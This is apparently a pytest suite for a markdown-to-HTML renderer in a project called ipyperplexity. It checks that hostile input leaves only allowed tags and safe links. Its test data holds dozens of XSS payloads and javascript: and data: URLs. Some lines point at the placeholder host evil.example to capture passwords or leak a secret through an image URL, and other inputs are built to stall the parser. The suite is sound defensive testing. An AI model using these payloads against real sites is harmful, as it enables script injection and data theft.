"""Whatever the service sends, the page holds only the elements and links that we mean."""

from __future__ import annotations

import json
import re
from time import process_time

import pytest

from ipyperplexity.markup import page
from ipyperplexity.markup.live import LiveMarkdown
from ipyperplexity.markup.markdown import render
from ipyperplexity.markup.markers import sentences
from ipyperplexity.tools import ToolCall
from tests.markup.html_reading import Dom, Page, resolver

PLAIN = "p h3 h4 h5 h6 ul strong em s pre blockquote hr br thead tbody tr style summary small"
ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in re.split(" ", PLAIN)},
    "a": {"href", "title", "rel", "target"},
    "code": {"class"},
    "details": {"open"},
    "div": {"class"},
    "li": {"class", "value"},
    "ol": {"class", "start"},
    "p": {"class", "role", "aria-live"},
    "span": {"class", "title"},
    "sup": {"class", "title"},
    "table": {"class"},
    "td": {"class"},
    "th": {"class", "scope"},
    "ul": {"class"},
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<button data-commandlinker-command='apputils:reset'>x</button>",
    "<div style='position:fixed;inset:0' onclick=alert(1)>x</div>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a href='javascript:alert(1)'>x</a>",
    "</div></div><h1>out of the box</h1>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/png;base64,AAAA)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/lab/api)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](blob:https://evil.example/1)",
    "[x]( \x01javascript:alert(1))",
    '[x](https://a.example "t\\" onclick=alert(1) x=\\"")',
    "[x](https://a.example 'a\"><img src=x onerror=alert(1)>')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "<mailto:a@b.example>",
    "![](https://evil.example/?d=secret)",
    "![x](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://a.example)",
    '![" onerror="alert(1)](https://a.example)',
    "[![x](https://a.example/i.png)](https://b.example)",
    "[<https://a.example>](https://b.example)",
    "[1]: http://evil.example\n\nSee [1] and [x][1].",
    "[x]: javascript:alert(1)\n\n[x]",
    '```x" onclick="alert(1)\ncode\n```',
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "``` language-x class=y\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|:--|--:|\n| <script>x</script> | `<b>` |",
    "# <img src=x onerror=alert(1)>",
    "$$ </span><img src=x onerror=alert(1)> $$",
    "\\( \\href{javascript:alert(1)}{x} \\)",
    "\\[ \\class{pplx}{x} \\style{position:fixed}{y} \\]",
    "$$\n\\def\\alpha{\\href{javascript:alert(1)}{x}}\n$$",
    "\\( \\csname href\\endcsname{javascript:alert(1)}{x} \\)",
    "[1<img src=x onerror=alert(1)>]",
    "[web:0]<script>alert(1)</script>[7]",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\x00<script\x00>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "*a **b* c** <u onclick=x>~~d~~",
    "$$\\unicode{x41} \\require{html}$$",
]
URLS = [
    "javascript:alert(1)",
    " \tjavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://a.example/"><img src=x onerror=alert(1)>',
    "https://a.example/' onclick='alert(1)",
    'https://a.example/\n" onclick=alert(1)',
    "https://a.example/\x00\u202e",
    "//evil.example",
    "https:evil.example",
    "",
]


def assert_safe(html: str) -> Dom:
    dom = Dom(html)
    for tag, attributes in dom.elements:
        assert tag in ALLOWED, f"<{tag}> in {html!r}"
        assert set(attributes) <= ALLOWED[tag], f"<{tag} {attributes}> in {html!r}"
        if tag == "a":
            assert re.match(r"https?://[\w\[]", attributes["href"]), attributes
            assert not re.search(r"[\s\"'<>`]", attributes["href"]), attributes
            assert {"noopener", "noreferrer"} <= set(attributes["rel"].split())
            assert attributes["target"] == "_blank"
        for name in attributes.get("class", "").split():
            assert re.match(r"(pplx|language-|mathjax_|tex2jax_)", name), name
    assert "alert" not in dom.styles
    return dom


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_the_text_leaves_only_harmless_elements(
    attack: str, sources: list[Page]
) -> None:
    resolve = resolver(sources)
    for text in (attack, f"Before {attack} after.", f"- {attack}\n\n> {attack}", f"**{attack}**"):
        assert_safe(page.answer_page(body_html=render(text, resolve), sources=sources))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_harmless_at_every_moment_of_its_arrival(
    attack: str, sources: list[Page]
) -> None:
    live = LiveMarkdown(resolver(sources))
    for char in f"{attack} end\n\n{attack}":
        live.append(char)
        assert_safe(live.html())
    assert_safe(live.finish())


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_title_a_snippet_or_a_status_is_shown_as_text(attack: str) -> None:
    hostile = [Page(1, attack, snippet=attack, domain=attack), Page(2, attack, attack, cited=False)]
    body = render("See [1][2] and [web:0].", resolver(hostile))
    assert_safe(body)
    assert_safe(
        page.answer_page(
            body_html=body,
            sources=hostile,
            status_line=attack,
            notices=[attack],
            searches=[attack],
            state="failed",
            calls=[
                ToolCall(attack, attack, f"{attack}\n{attack}"),
                ToolCall("f", json.dumps({"a": attack}), "", attack),
            ],
        )
    )
    assert_safe(page.sources_table(hostile * 15))
    assert_safe(page.searching_line([attack], 3))
    assert_safe(page.error_block(attack, attack))


@pytest.mark.parametrize("url", URLS)
def test_an_attack_in_a_url_never_becomes_a_link_or_an_attribute(url: str) -> None:
    hostile = [Page(1, "Title", url), Page(2, "", url, kind="fetch")]
    assert_safe(render("See [1], [1, 2], [web:0].", resolver(hostile)))
    assert_safe(page.answer_page(body_html="", sources=hostile))
    assert_safe(page.sources_table(hostile))


def test_no_image_is_ever_loaded() -> None:
    html = render("![secret](https://evil.example/?d=1) ![](http://b.example)", resolver([]))
    assert [a["href"] for a in Dom(html).all("a")] == [
        "https://evil.example/?d=1",
        "http://b.example",
    ]
    assert "<img" not in html


def test_a_reference_definition_of_the_model_defines_nothing(sources: list[Page]) -> None:
    html = render("[1]: http://evil.example\n\nSee [1].", resolver(sources))
    assert {a["href"] for a in Dom(html).all("a")} == {"https://one.example/a"}


SLOW = {
    "brackets": "[" * 20000,
    "emphasis": "*a" * 10000,
    "underscores": "_a" * 9999,
    "strikes": "~~" * 9999,
    "backticks": "`" * 9999 + "a",
    "odd code": "`a``" * 5000,
    "maths": "\\(" * 10000,
    "dollars": "$$" * 9999,
    "markers": "[1]" * 5000,
    "quotes": "> " * 3000,
    "lists": "- " * 3000,
    "half links": "[a](" * 5000,
    "half addresses": "<https:" * 5000,
    "images": "![" * 9999,
    "mixed": "**[" * 4000,
    "table": "|" * 9999 + "\n" + "|-" * 5000,
    "blanks": " " * 20000 + "x",
    "stops": ". " * 20000,
}


@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW.keys())
def test_a_text_made_to_be_slow_is_not(text: str) -> None:
    start = process_time()
    assert_safe(render(text, resolver([])))
    live = LiveMarkdown(resolver([]))
    for begin in range(0, len(text), len(text) // 10):
        live.append(text[begin : begin + len(text) // 10])
        live.html()
    assert_safe(live.finish())
    sentences(text)
    assert process_time() - start < 10


def test_text_that_turns_the_reading_direction_or_rings_a_bell_does_not_reach_the_page() -> None:
    html = render("see \u202egnp.exe\u202c and `\x1b[31m\x07` now\u2066!", resolver([]))
    assert not set(html) & set("\u202e\u202c\u2066\x1b\x07")
    assert "gnp.exe" in html
